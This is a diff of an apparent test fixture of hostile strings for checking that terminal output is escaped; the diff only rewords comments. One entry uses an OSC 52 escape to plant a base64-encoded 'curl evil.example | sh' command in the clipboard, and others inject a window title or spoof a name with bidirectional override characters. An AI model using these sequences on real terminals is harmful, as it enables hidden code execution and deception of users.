@@ -1,13 +1,13 @@
 /**
- * Texts that would do harm on a terminal that prints them as they come: all as escaped JSON text,
- * some with `\u` escapes and some with the bytes themselves, as records carry both.
+ * Texts that would do harm when a terminal prints them unchanged. They are the contents of JSON
+ * strings; some use `\u` escapes and some the raw characters, because records have both.
  */
 export const hostile = {
-	/** Clears the screen, then sets the clipboard (OSC 52) and rings. */
+	/** Clears the screen, sets the clipboard (OSC 52) and rings the bell. */
 	clipboard: 'curl/8.4.0\\u001b[2J\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007',
 	/** Sets the window title and colours. */
 	title: '\\u001b]0;pwned\\u0007\\u001b[31;1mpython-requests/2.32.3\\u001b[0m\\b\\b',
-	/** Turns the text after it around: reads as another name. */
+	/** Reverses the text after it, so that it reads as another name. */
 	bidi: 'aws-cli/2.18.5 \u202egnp.ecivres\u202c \u2066x\u2069',
 	wide: '监控代理/3.1 (自動収集; 🛰️ 데이터) 👩‍💻',
 	/** A tab, a line break and a zero-width space. */
